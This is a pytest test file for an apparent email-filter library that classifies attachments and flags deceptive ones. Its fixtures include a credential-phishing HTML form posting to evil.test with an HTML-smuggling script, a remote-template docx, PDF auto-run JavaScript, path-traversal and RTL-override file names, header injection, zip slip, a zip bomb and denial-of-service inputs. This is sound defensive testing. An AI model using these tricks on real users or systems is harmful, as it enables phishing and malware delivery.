"""Attachments: what they are and what is odd about them, through the whole reading."""

# ruff: noqa: E501

from __future__ import annotations

import base64
import time
import zlib

import pytest

from mailstack.filters.document import Document, read
from mailstack.filters.fields import Header
from mailstack.filters.reading import kinds
from mailstack.filters.reading.attachments import MAX_ATTACHMENTS
from mailstack.filters.reading.facts import Attachment
from tests.kit.hostile import zip_of

PNG = b"\x89PNG\r\n\x1a\n" + bytes(100)
PE = b"MZ" + bytes(100)
PDF = b"%PDF-1.7\n"


def of(message: bytes) -> Document:
    return read(message, Header(message))


def mail(data: bytes, name: str, declared: str = "application/octet-stream", more: str = "") -> Document:
    head = (
        "Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n\r\nHello.\r\n--b\r\n"
        f'Content-Type: {declared}\r\nContent-Disposition: attachment; filename="{name}"\r\n{more}'
        "Content-Transfer-Encoding: base64\r\n\r\n"
    )
    return of(head.encode() + base64.encodebytes(data) + b"\r\n--b--\r\n")


def attach(data: bytes, name: str, declared: str = "application/octet-stream") -> Attachment:
    return mail(data, name, declared).attachments[0]


@pytest.mark.parametrize(
    ("data", "name", "kind", "tricks"),
    [
        (PE, "setup.exe", "program", []),
        (b"WScript", "invoice.js", "program", []),
        (b"L\0\0\0\x01\x14\x02\0" + bytes(50), "scan.lnk", "program", []),
        (PE, "photo.jpg", "program", ["type-lies"]),
        (b"x", "invoice.pdf.exe", "program", ["double-extension"]),
        (b"<html>x", "invoice.pdf.html", "html", ["double-extension"]),
        (b"x", "photo\u202egpj.scr", "program", ["reversed-name"]),
        (b"x", "invoice.pdf" + " " * 40 + ".exe", "program", ["blanks-in-name", "double-extension"]),
        (b"<!doctype html><p>x", "scan.htm", "html", []),
        (b"<html><p>x", "scan", "html", []),
        (b"<?xml version='1.0'?><svg xmlns='x'><script>y</script></svg>", "logo.svg", "svg", ["script"]),
        (PDF, "bill.pdf", "pdf", []),
        (zip_of(("a.txt", b"x")), "bill.pdf", "archive", ["type-lies"]),
        (b"x", "backup.iso", "disk-image", []),
        (b"\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d\xae\xb1\x53\x78\xd0\x29\x96\xd3", "notes.one", "onenote", []),
        (PNG, "qr.png", "image", []),
        (b"BEGIN:VCALENDAR", "x.ics", "calendar", []),
        (b"junk", "x.zip", "archive", ["broken"]),
        (b"x", "readme", "other", []),
        (b"x", "report.final.pdf", "pdf", []),
        (zip_of(("[Content_Types].xml", b"x"), ("word/document.xml", b"y")), "cv.docx", "office", []),
        (zip_of(("[Content_Types].xml", b"x"), ("word/vbaProject.bin", b"y")), "cv.docm", "office", ["macros"]),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"_\0V\0B\0A\0_\0P\0R\0O\0J\0E\0C\0T\0", "a.doc", "office", ["macros"]),
        (b"{\\rtf1 {\\object\\objdata 00}}", "a.doc", "office", ["embedded-file"]),
    ],
)  # fmt: skip
def test_kinds_are_told_by_content_and_name(data: bytes, name: str, kind: str, tricks: list[str]) -> None:
    found = attach(data, name)
    assert (found.kind, found.tricks) == (kind, tricks)


@pytest.mark.parametrize(
    ("written", "shown", "trick"),
    [
        ("../../etc/passwd", "passwd", "path-in-name"),
        ("C:\\Windows\\x.txt", "x.txt", "path-in-name"),
        ("a\0b.txt", "a b.txt", ""),
        ("ann\u202etxt.exe", "anntxt.exe", "reversed-name"),
        ("z" * 5_000 + ".pdf", ".pdf", ""),
    ],
)
def test_names_are_shown_without_what_deceives(written: str, shown: str, trick: str) -> None:
    # M16
    tricks: list[str] = []
    name = kinds.read_name(written, tricks)
    assert name.endswith(shown)
    assert len(name) <= kinds.MAX_NAME
    assert not set(name) & {"/", "\0", "\r", "\n", "\u202e"}
    assert trick in tricks if trick else True


def test_a_line_end_in_a_name_ends_no_line() -> None:
    # M16
    doc = of(
        b"Content-Type: application/pdf\r\n"
        b"Content-Disposition: attachment; filename*=utf-8''a%0D%0ABcc%3A%20x%00.pdf\r\n\r\n%PDF-1.4"
    )
    assert doc.attachments[0].name == "a Bcc: x .pdf"


def test_a_page_that_is_attached_is_read_like_one() -> None:
    doc = mail(
        b"<title>Mail</title><p>Log in to <b>Example</b> Bank</p><form action='http://evil.test/p'><input type=password></form>"
        b"<script>var d=atob('x');new Blob([d]);document.write(unescape(d))</script>",
        "Document.html",
        "text/html",
    )
    found = doc.attachments[0]
    assert found.tricks == ["form", "password", "script", "smuggling"]
    assert "Log in to Example Bank" in found.text
    assert [(link.host, link.place) for link in doc.links] == [("evil.test", "attachment")]
    assert doc.text.strip() == "Hello."
    assert doc.hosts == []


def test_links_in_calendars_and_documents_are_found() -> None:
    doc = mail(b"BEGIN:VCALENDAR\r\nDESCRIPTION:see http://ev\r\n il.test/x\r\n", "i.ics", "text/calendar")
    assert [link.host for link in doc.links] == ["evil.test"]
    plain = PDF + b"1 0 obj <</A <</S /URI /URI (http://evil.test/\\(a\\))>>>>"
    assert [link.url for link in mail(plain, "a.pdf").links] == ["http://evil.test/(a)"]
    packed = (
        PDF + b"<</Type /ObjStm /Filter /FlateDecode>> stream\r\n" + zlib.compress(b"/URI(http://in.test)")
    )
    assert [link.host for link in mail(packed, "a.pdf").links] == ["in.test"]
    relations = b'<Relationship Id="1" Type="http://x/attachedTemplate" Target="http://evil.test/t.dotm" TargetMode="External"/>'
    doc = mail(zip_of(("[Content_Types].xml", b"x"), ("word/_rels/settings.xml.rels", relations)), "a.docx")
    assert doc.attachments[0].tricks == ["remote-template"]
    assert [link.host for link in doc.links] == ["evil.test"]


def test_what_a_pdf_does_is_told() -> None:
    assert attach(PDF + b"/OpenAction <</S /JavaScript /JS (x)>> /Launch /EmbeddedFile", "a.pdf").tricks == [
        "script", "launches", "embedded-file",
    ]  # fmt: skip


def test_suspicious_archives_are_called_so() -> None:
    # M11
    assert attach(zip_of(("../x", b"y")), "a.zip").is_suspicious_archive
    assert attach(zip_of(("zeros", bytes(20_000_000))), "a.zip").is_suspicious_archive
    assert not attach(zip_of(("a.exe", b"y")), "a.zip").is_suspicious_archive


def test_a_lone_picture_is_told() -> None:
    doc = of(
        b"Content-Type: multipart/related; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n<img src='cid:qr@x'>"
        b"\r\n--b\r\nContent-Type: image/png\r\nContent-Id: <qr@x>\r\n\r\n" + PNG + b"\r\n--b--\r\n"
    )
    assert doc.is_one_picture
    assert doc.attachments[0].is_inline
    assert not mail(PNG, "a.png").attachments[0].is_inline
    assert not of(b"\r\n" + b"Many words. " * 40).is_one_picture


def test_other_forms_of_the_text_are_no_files() -> None:
    doc = of(
        b"Content-Type: multipart/mixed; boundary=a\r\n\r\n--a\r\nContent-Type: multipart/alternative; boundary=b\r\n\r\n"
        b"--b\r\n\r\ntext\r\n--b\r\nContent-Type: text/x-amp-html\r\n\r\n<html>\r\n--b\r\nContent-Type: text/calendar\r\n\r\n"
        b"BEGIN:VCALENDAR\r\n--b--\r\n--a\r\nContent-Type: application/pdf; name=x.pdf\r\n\r\n%PDF-1.4\r\n--a--\r\n"
    )
    assert [(each.kind, each.is_inline) for each in doc.attachments] == [
        ("html", True), ("calendar", True), ("pdf", False),
    ]  # fmt: skip


def test_a_picture_drawn_with_blocks_is_told() -> None:
    assert of(
        b"Content-Type: text/plain; charset=utf-8\r\n\r\n" + "\u2588\u2580 \u2584\n".encode() * 60
    ).has_drawn_picture
    assert not of(
        b"Content-Type: text/plain; charset=utf-8\r\n\r\n" + "\u2588\u2588\u2591 60 %\n".encode()
    ).has_drawn_picture


def test_archives_nobody_lists_are_not_called_broken() -> None:
    assert attach(b"junk", "x.ace").tricks == []
    assert not attach(b"junk", "x.zip").is_suspicious_archive


def test_a_message_within_a_message_is_an_attachment_and_is_read() -> None:
    doc = of(b"Content-Type: message/rfc822\r\n\r\nSubject: inner\r\n\r\nSee http://x.test/\r\n")
    assert [each.kind for each in doc.attachments] == ["message"]
    assert doc.hosts == ["x.test"]


@pytest.mark.parametrize(
    "body",
    [
        b"begin 644 a.exe\r\n#0V%T\r\n`\r\nend\r\n",
        b"=ybegin line=128 size=5 name=a\r\nabcde\r\n=yend size=5\r\n",
        b"-----BEGIN PGP MESSAGE-----\r\n\r\nhQEM\r\n-----END PGP MESSAGE-----\r\n",
    ],
    ids=["uuencode", "yEnc", "PGP"],
)
def test_other_encodings_in_text_stay_text(body: bytes) -> None:
    # M10
    doc = of(b"\r\n" + body)
    assert doc.text.encode() == body
    assert doc.attachments == []


@pytest.mark.parametrize(
    ("declared", "kind"),
    [("application/ms-tnef", "other"), ("application/pkcs7-mime", "certificate"), ("application/pgp-encrypted", "certificate")],
)  # fmt: skip
def test_sealed_parts_are_attachments_nobody_opens(declared: str, kind: str) -> None:
    # M10
    found = attach(b"\x78\x9f\x3e\x22junk", "", declared)
    assert (found.kind, found.tricks, found.members) == (kind, [], [])


@pytest.mark.parametrize(
    "boundary", [b"", b'; boundary=""', b"; boundary=" + b"b" * 5_000, b'; boundary="a\r\n b"'], ids=["none", "empty", "5000", "folded"]
)  # fmt: skip
def test_a_message_whose_boundary_is_useless_is_read_as_text(boundary: bytes) -> None:
    # M4
    doc = of(b"Content-Type: multipart/mixed" + boundary + b"\r\n\r\n--x\r\nSee http://x.test/y\r\n--x--\r\n")
    assert doc.hosts == ["x.test"]


@pytest.mark.parametrize(
    ("encoding", "body"),
    [
        ("base64", b"SGVs bG8g\r\nd29y!!bGQ"),
        ("base64", b"SGVsbG8gd29ybGQ" + b"=" * 1_000_000),
        ("quoted-printable", b"Hello=\r\n world=ZZ=")
    ],
    ids=["blanks", "padding", "quoted"],
)  # fmt: skip
def test_broken_encodings_are_read_leniently(encoding: str, body: bytes) -> None:
    # M8
    doc = of(f"Content-Transfer-Encoding: {encoding}\r\n\r\n".encode() + body)
    assert doc.text.startswith("Hello world")


def test_a_line_of_30_megabytes_takes_little_time() -> None:
    # M15
    message = b"\r\n" + b"word " * 6_000_000
    began = time.process_time()
    doc = of(message)
    assert time.process_time() - began < 5
    assert len(doc.text) <= 512 * 1024


def test_a_pdf_of_a_million_objects_takes_little_time() -> None:
    # M12
    message = (
        b"Content-Type: application/pdf\r\n\r\n" + PDF + b"1 0 obj<</Type/ObjStm>>stream\nx\n" * 1_000_000
    )
    began = time.process_time()
    doc = of(message)
    assert time.process_time() - began < 5
    assert doc.attachments[0].kind == "pdf"


def pages(source: bytes, count: int, more: bytes = b"") -> bytes:
    part = b"--b\r\nContent-Type: text/html\r\n" + more + b"\r\n" + source + b"\r\n"
    return b"Content-Type: multipart/mixed; boundary=b\r\n\r\n" + part * count + b"--b--\r\n"


ATTACHED = b"Content-Disposition: attachment\r\n"
HARD = {
    "links behind a base": pages(
        b"<base href='http://x.test/" + b"../" * 160 + b"'>" + b"<a href=y>x</a>" * 1_000, 60
    ),
    "addresses": pages(b"".join(b"<a href=mailto:a%d@b.test>" % n for n in range(1_000)), 30),
    "data without end": pages(b"<script>" + (b"A" * 999 + b" ") * 250 + b"</script>", 100, ATTACHED),
}


@pytest.mark.parametrize("message", HARD.values(), ids=HARD.keys())
def test_many_hard_parts_together_take_little_time(message: bytes) -> None:
    # M13, M14
    began = time.process_time()
    doc = of(message)
    assert time.process_time() - began < 5
    assert len(doc.links) <= 1_000
    assert len(doc.mail_addresses) <= 1_000


def test_relations_without_end_take_little_time() -> None:
    # M12
    data = zip_of(("[Content_Types].xml", b"x"), ("_rels/.rels", b"<Relationship " * 40_000))
    encoded = base64.encodebytes(data)
    part = (
        b"--b\r\nContent-Type: application/zip; name=a.docx\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        + encoded
        + b"\r\n"
    )
    began = time.process_time()
    of(b"Content-Type: multipart/mixed; boundary=b\r\n\r\n" + part * 90 + b"--b--\r\n")
    assert time.process_time() - began < 5


@pytest.mark.parametrize("count", [MAX_ATTACHMENTS, MAX_ATTACHMENTS + 1])
def test_so_many_attachments_are_told_of_and_no_more(count: int) -> None:
    part = b"--b\r\nContent-Type: image/png; name=x.png\r\n\r\n" + PNG + b"\r\n"
    doc = of(b"Content-Type: multipart/mixed; boundary=b\r\n\r\n" + part * count + b"--b--\r\n")
    assert len(doc.attachments) == MAX_ATTACHMENTS


def test_hostile_attachments_share_one_budget() -> None:
    # M12, M13
    page = b"<b " + b" ".join(b"a%d" % number for number in range(15_000)) + b">"
    part = b"--b\r\nContent-Type: text/html\r\nContent-Disposition: attachment\r\n\r\n" + page + b"\r\n"
    began = time.process_time()
    doc = of(b"Content-Type: multipart/mixed; boundary=b\r\n\r\n" + part * 90 + b"--b--\r\n")
    assert time.process_time() - began < 5
    assert sum("monstrous" in each.tricks for each in doc.attachments) > 80
